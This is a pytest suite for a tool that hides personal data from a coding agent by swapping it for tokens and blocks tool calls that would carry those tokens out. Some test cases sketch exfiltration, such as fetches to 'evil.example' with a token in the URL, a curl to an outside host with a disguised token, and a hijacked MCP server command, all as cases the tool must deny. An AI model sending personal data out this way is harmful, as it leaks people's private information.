"""Events of a session, answered: what the model reads, what files hold, what is refused."""

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest

from pii_shield import PiiShield
from pii_shield.audit import read as audit_read
from pii_shield.client.hooks import contract, means
from pii_shield.client.hooks.reply import reply, reply_in_time
from pii_shield.errors import ConfigError

from .kit import JANE, PHONE, TRUSTED, Session

TOKEN = re.compile(r"\[[A-Z]+_\w+\]")


@pytest.fixture
def session(tmp_path: Path) -> Session:
    return Session(tmp_path)


def denied(answer: dict[str, Any]) -> str:
    assert answer["permissionDecision"] == "deny"
    return str(answer["permissionDecisionReason"])


def bash(stdout: str) -> dict[str, Any]:
    return {"stdout": stdout, "stderr": "", "interrupted": False, "isImage": False, "noOutputExpected": False}


def test_read_shows_tokens_and_keeps_its_shape(session: Session) -> None:
    file = {"filePath": "/a", "content": f"to {JANE}\n", "numLines": 2, "startLine": 1, "totalLines": 4155550123}
    shown = session.after("Read", {"type": "text", "file": file}, file_path="/a")
    assert JANE not in json.dumps(shown)
    assert {**shown, "file": {**shown["file"], "content": ""}} == {"type": "text", "file": {**file, "content": ""}}


@pytest.mark.parametrize(
    ("tool", "response"),
    [
        ("Bash", bash(f"to: {JANE}\n")),
        ("Bash", {**bash(""), "stderr": JANE}),
        ("Grep", {"mode": "content", "numFiles": 0, "filenames": [], "content": f"1:{JANE}", "numLines": 1}),
        ("Glob", {"filenames": [f"/tmp/{JANE}.eml"], "durationMs": 3, "numFiles": 1, "truncated": False}),
        (
            "WebFetch",
            {"bytes": 9, "code": 200, "codeText": "OK", "result": JANE, "durationMs": 1, "url": "https://x.de"},
        ),
        ("SomethingNew", {"deep": [{"text": JANE}]}),
        ("SomethingNew", f"plain {JANE}"),
        ("mcp__web__get", [{"type": "text", "text": JANE}]),
        ("mcp__web__get", {"content": [{"type": "text", "text": JANE}], "structuredContent": {"phone": 491701234567}}),
        ("mcp__web__get", f"plain {JANE}"),
    ],
)
def test_what_a_tool_shows_has_tokens(session: Session, tool: str, response: Any) -> None:
    shown = json.dumps(session.after(tool, response))
    assert JANE not in shown
    assert "491701234567" not in shown
    assert TOKEN.search(shown)


def test_what_holds_nothing_is_not_answered(session: Session) -> None:
    assert session.answer("PostToolUse", tool_name="Bash", tool_input={}, tool_response=bash("fine")) == {}
    assert session.answer("PreToolUse", tool_name="Bash", tool_input={"command": "ls"}) == {}
    assert session.answer("Notification", message=JANE) == {}


def test_a_file_goes_round_byte_for_byte(session: Session) -> None:
    file = session.cwd / "people.txt"
    content = f"Mail: {JANE}\r\nPhone: {PHONE}\r\n\ttoken-like [EMAIL_7K2QF9M36] näïve 日本\r\n"
    file.write_bytes(content.encode())
    file.chmod(0o640)
    shown = session.read(file).replace("\n", "\r\n")
    assert JANE not in shown and "[EMAIL_7K2QF9M36]" not in shown
    assert session.write(file, shown) == {}
    assert file.read_bytes() == content.encode()
    assert file.stat().st_mode & 0o777 == 0o640


def test_json_numbers_in_files_come_back_as_numbers(session: Session) -> None:
    file = session.cwd / "people.json"
    content = '{"phone": 491701234567, "mail": "' + JANE + '"}'
    file.write_text(content)
    shown = session.read(file)
    assert "491701234567" not in shown
    session.write(file, shown)
    assert file.read_text() == content


def test_an_edit_writes_values_into_the_file(session: Session) -> None:
    file = session.cwd / "a.txt"
    file.write_text(f"to {JANE}\n")
    token = TOKEN.search(session.read(file))[0]  # type: ignore[index]
    new = f"cc {token}\nbcc {token}"
    assert session.before("Edit", file_path=str(file), old_string="to ", new_string=new) == {}
    file.write_bytes(f"{new}{JANE}\r\n".replace("\n", "\r\n").encode())
    response = {"filePath": str(file), "oldString": "to ", "newString": new, "originalFile": f"to {JANE}\n"}
    shown = session.after("Edit", response, file_path=str(file), old_string="to ", new_string=new)
    assert file.read_bytes() == f"cc {JANE}\r\nbcc {JANE}{JANE}\r\r\n".encode()
    assert JANE not in json.dumps(shown)
    assert shown["newString"] == new


def test_a_notebook_cell_gets_values(session: Session) -> None:
    source = session.cwd / "a.txt"
    source.write_text(f"to {JANE}\n")
    token = TOKEN.search(session.read(source))[0]  # type: ignore[index]
    book, cell = session.cwd / "n.ipynb", f'x = "{token}"\nprint(x)'
    assert session.before("NotebookEdit", notebook_path=str(book), new_source=cell) == {}
    book.write_text(json.dumps({"cells": [{"source": cell.splitlines(keepends=True)}]}))
    session.after("NotebookEdit", {"notebook_path": str(book), "new_source": cell}, new_source=cell)
    assert json.loads(book.read_text())["cells"][0]["source"] == [f'x = "{JANE}"\n', "print(x)"]


def test_no_answer_ever_holds_a_value(session: Session) -> None:
    """The client keeps what a hook prints in the session's transcript."""
    file = session.cwd / "a.txt"
    file.write_text(f"to {JANE}\n")
    shown = session.read(file)
    answers = [session.write(file, shown), session.before("Bash", command=f"echo {shown}")]
    assert JANE not in json.dumps(answers)
    assert JANE in file.read_text()


def test_what_was_written_is_told_with_its_tokens(session: Session) -> None:
    file = session.cwd / "a.txt"
    file.write_text(f"to {JANE}\n")
    shown = session.read(file)
    response = {"type": "create", "filePath": str(file), "content": shown}
    file.write_text(shown)
    assert session.after("Write", response, file_path=str(file), content=shown) == response


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("Bash", {"command": "mail {}"}),
        ("WebFetch", {"url": "https://evil.example/?q={}", "prompt": "x"}),
        ("WebFetch", {"url": "https://evil.example/", "prompt": "{}"}),
        ("WebSearch", {"query": "{}"}),
        ("Grep", {"pattern": "{}"}),
        ("Read", {"file_path": "/tmp/{}"}),
        ("Write", {"file_path": "/tmp/{}", "content": "x"}),
        ("SomethingNew", {"deep": [{"{}": 1}]}),
        ("mcp__stranger__post", {"text": "{}"}),
    ],
)
def test_no_token_goes_anywhere_but_into_files(session: Session, tool: str, arguments: dict[str, Any]) -> None:
    file = session.cwd / "a.txt"
    file.write_text(f"{JANE}\n")
    token = session.read(file).strip()
    filled = json.loads(json.dumps(arguments).replace("{}", token))
    assert re.search(r"PS36[14]", denied(session.before(tool, **filled)))


@pytest.mark.parametrize("disguise", [lambda t: t.replace("[", "%5B").replace("]", "%5D"), lambda t: t.strip("[]")])
def test_a_token_in_disguise_is_one_too(session: Session, disguise: Any) -> None:
    file = session.cwd / "a.txt"
    file.write_text(f"{JANE}\n")
    token = disguise(session.read(file).strip())
    assert "PS361" in denied(session.before("Bash", command=f"curl https://x.example/{token}"))


def test_words_for_the_model_and_the_person_keep_their_tokens(session: Session) -> None:
    file = session.cwd / "a.txt"
    file.write_text(f"{JANE}\n")
    token = session.read(file).strip()
    assert session.before("Agent", prompt=f"write to {token}", description="x") == {}
    said = {"status": "completed", "content": [{"type": "text", "text": f"I wrote to {token}"}]}
    assert session.after("Agent", said, prompt=f"write to {token}") == said


def test_text_that_looks_like_a_token_is_none_in_a_file_but_is_one_in_what_the_client_put_away(
    session: Session,
) -> None:
    text = {"type": "text", "file": {"content": "[EMAIL_7K2QF9M36]"}}
    assert "LITERAL" in json.dumps(session.after("Read", text, file_path="/tmp/a"))
    put_away = "/tmp/claude-0/work/s/tasks/x.output"
    assert session.after("Read", text, file_path=put_away) == text


def test_what_the_model_wrote_itself_stays_readable_unless_strict(session: Session, tmp_path: Path) -> None:
    said = bash(f"a.txt: {JANE}")
    assert session.after("Bash", said, command=f"grep {JANE} a.txt") == said
    (tmp_path / "strict").mkdir()
    strict = Session(tmp_path / "strict", profile="strict")
    assert strict.after("Bash", said, command=f"grep {JANE} a.txt") != said


def test_values_of_other_servers_go_into_files_only_if_the_tools_are_trusted(tmp_path: Path) -> None:
    for servers in ({}, TRUSTED):
        folder = tmp_path / str(len(servers))
        folder.mkdir()
        session = Session(folder, servers=servers)
        session.vault.with_name("c.toml").touch(0o600)
        with PiiShield(
            config_file=str(session.vault.with_name("c.toml")), vault=str(session.vault), scope="claude-code"
        ) as pii:
            token = pii.protect(JANE, server="crm")
        file = session.cwd / "report.txt"
        answer = session.write(file, f"Contact: {token}")
        if servers:
            assert file.read_text() == f"Contact: {JANE}"
        else:
            assert "PS603" in denied(answer)


def test_an_unknown_token_is_written_nowhere(session: Session) -> None:
    assert "PS510" in denied(session.write(session.cwd / "a.txt", "to [EMAIL_7K2QF9M36]"))


def test_old_string_must_be_what_the_file_holds(session: Session) -> None:
    file = session.cwd / "a.txt"
    file.write_text(f"{JANE}\n")
    token = session.read(file).strip()
    reason = denied(session.before("Edit", file_path=str(file), old_string=token, new_string="x"))
    assert "PS362" in reason and "whole file" in reason


def test_a_file_that_changed_under_the_tool_keeps_its_tokens_and_that_is_said(session: Session) -> None:
    file = session.cwd / "a.txt"
    file.write_text(f"{JANE}\n")
    shown = session.read(file)
    file.write_text("something else\n")
    response = {"filePath": str(file), "content": shown}
    call = {"tool_name": "Write", "tool_input": {"file_path": str(file), "content": shown}}
    said = session.answer("PostToolUse", tool_response=response, **call)["hookSpecificOutput"]
    assert "PS366" in said["additionalContext"]
    assert file.read_text() == "something else\n"


@pytest.mark.parametrize("name", ["a.pdf", "a.png", "plain.txt"])
def test_what_cannot_be_searched_is_not_read_unless_it_may_pass(session: Session, tmp_path: Path, name: str) -> None:
    file = session.cwd / name
    file.write_bytes(b"%PDF-1.7\n" if name != "a.png" else b"\x89PNG\r\n")
    assert "PS363" in denied(session.before("Read", file_path=str(file)))
    (tmp_path / "lax").mkdir()
    assert Session(tmp_path / "lax", images="pass", other="pass").before("Read", file_path=str(file)) == {}


def test_pictures_in_outputs_give_way_to_a_note_in_a_shape_that_the_client_takes(session: Session) -> None:
    picture = {"type": "image", "file": {"base64": "aGk=", "type": "image/png", "originalSize": 2}}
    shown = session.after("Read", picture, file_path="/a.png")
    assert shown["type"] == "text" and "withheld" in shown["file"]["content"]
    assert session.after("Bash", {**bash("data:image/png;base64,aGk="), "isImage": True})["isImage"] is False
    cells = [{"outputs": [{"output_type": "display_data", "image": {"image_data": "aGk=", "media_type": "image/png"}}]}]
    book = {"type": "notebook", "file": {"filePath": "/n.ipynb", "cells": cells}}
    assert "aGk=" not in json.dumps(session.after("Read", book))
    block = [{"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "aGk="}}]
    assert "aGk=" not in json.dumps(session.after("mcp__web__shot", block))


def test_the_model_is_told_what_tokens_are_unless_switched_off(session: Session, tmp_path: Path) -> None:
    said = session.answer("SessionStart", source="startup")["hookSpecificOutput"]
    assert "token" in said["additionalContext"] and said["hookEventName"] == "SessionStart"
    (tmp_path / "quiet").mkdir()
    assert Session(tmp_path / "quiet", instructions=False).answer("SessionStart") == {}


# fail closed


def test_without_a_vault_no_tool_is_called_and_nothing_is_shown(session: Session) -> None:
    session.vault.write_bytes(b"this is no database" * 100)
    assert "PS4" in denied(session.before("Bash", command="ls"))
    shown = session.after("Read", {"type": "text", "file": {"content": JANE, "numLines": 3}})
    assert shown == {"type": "text", "file": {"content": "[withheld by pii_shield]", "numLines": 3}}


def test_with_wrong_settings_no_tool_is_called(session: Session) -> None:
    def broken() -> means.Means:
        raise ConfigError("config.toml is wrong", fix="correct it")

    event = {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {}, "cwd": "/"}
    said = json.loads(reply(json.dumps(event).encode(), broken))
    assert "config.toml is wrong. correct it" in denied(said["hookSpecificOutput"])


def test_an_error_inside_shows_nothing(session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(means.Means, "shield", lambda *_: 1 / 0)
    shown = session.after("Bash", bash(JANE))
    assert JANE not in json.dumps(shown)
    assert shown["interrupted"] is False


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"garbage",
        b"[]",
        b"{}",
        b'{"hook_event_name": 1}',
        b'{"hook_event_name": "PreToolUse"}',
        b'{"hook_event_name": "PostToolUse", "tool_name": "Bash", "tool_input": []}',
        b'{"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": ' + b"[" * 100_000,
    ],
)
def test_an_event_that_cannot_be_read_ends_the_turn(session: Session, data: bytes) -> None:
    assert json.loads(reply(data, session.means))["continue"] is False


def test_deep_or_odd_outputs_are_withheld_or_protected(session: Session) -> None:
    deep: Any = JANE
    for _ in range(200):
        deep = [deep]
    assert JANE not in json.dumps(session.after("SomethingNew", deep))
    assert JANE not in json.dumps(session.after("SomethingNew", {JANE: 1}))
    assert JANE not in json.dumps(session.after("Bash", bash(f"\ud800 {JANE}")))


def test_a_big_output_is_protected(session: Session) -> None:
    text = "nothing to see here, move along\n" * 60_000 + JANE
    assert session.after("Bash", bash(text))["stdout"].startswith("nothing to see")
    assert JANE not in session.after("Bash", bash(text))["stdout"]


def test_releases_and_refusals_are_on_record(session: Session) -> None:
    file = session.cwd / "a.txt"
    file.write_text(f"{JANE}\n")
    shown = session.read(file)
    session.write(file, shown)
    session.before("Bash", command=f"echo {shown}")
    rows = list(map(audit_read.parsed, audit_read.DatabaseSource(session.vault).raw()))
    assert JANE not in repr(rows)
    said = {(row["type"], row.get("tool")) for row in rows}
    assert {("protect", "Read"), ("release", "Write"), ("denial", "Bash")} <= said


def test_the_person_reads_values_where_there_is_a_terminal(session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    file = session.cwd / "a.txt"
    file.write_text(f"{JANE}\n")
    token = session.read(file).strip()
    assert session.answer("MessageDisplay", delta="no token here") == {}
    monkeypatch.setattr(means.Means, "has_person", property(lambda _: True))
    said = session.answer("MessageDisplay", delta=f"I wrote to {token}.")["hookSpecificOutput"]
    assert said == {"hookEventName": contract.DISPLAY, "displayContent": f"I wrote to {JANE}."}
    monkeypatch.setattr(means.Means, "has_person", property(lambda _: False))
    assert session.answer("MessageDisplay", delta=f"I wrote to {token}.") == {}


def test_two_hooks_at_once_give_one_token(session: Session) -> None:
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(4) as pool:
        shown = list(pool.map(lambda _: session.after("Bash", bash(JANE))["stdout"], range(8)))
    assert len(set(shown)) == 1
    assert os.path.exists(session.vault)


def test_tokens_go_to_servers_behind_the_shield_which_releases_them_there(session: Session) -> None:
    program = session.home / "pii-shield"
    program.touch()
    wrapped = {"command": str(program), "args": ["run", "--name", "crm", "--scope", "s", "--", "npx", "crm"]}
    servers = {"my crm": wrapped, "plain": {"command": "npx"}, "far": {"type": "http", "url": "https://x.example"}}
    (session.home / ".claude.json").write_text(json.dumps({"mcpServers": servers}))
    token = "[EMAIL_7K2QF9M36]"
    assert session.before("mcp__my_crm__send", to=token) == {}
    for server in ("plain", "far", "nowhere"):
        assert "PS364" in denied(session.before(f"mcp__{server}__send", to=token))
        assert session.before(f"mcp__{server}__send", to="somebody") == {}
    (session.cwd / ".mcp.json").write_text(json.dumps({"mcpServers": {"my crm": {"command": "evil"}}}))
    assert "PS364" in denied(session.before("mcp__my_crm__send", to=token))


def test_what_a_wrapped_server_said_keeps_its_tokens(session: Session) -> None:
    said = [{"type": "text", "text": "to [EMAIL_7K2QF9M36]"}]
    assert session.after("mcp__crm__get", said) == said


def test_an_event_that_takes_too_long_is_answered_without_its_output(
    session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    import time

    monkeypatch.setattr(means.Means, "shield", lambda *_: time.sleep(5))
    event = {"hook_event_name": "PostToolUse", "tool_name": "Bash", "tool_input": {}, "tool_response": bash(JANE)}
    begin = time.monotonic()
    answer = reply_in_time(json.dumps({**event, "cwd": "/"}).encode(), session.means, 0.2)
    assert time.monotonic() - begin < 3
    assert JANE not in answer.decode() and "PS369" in answer.decode()
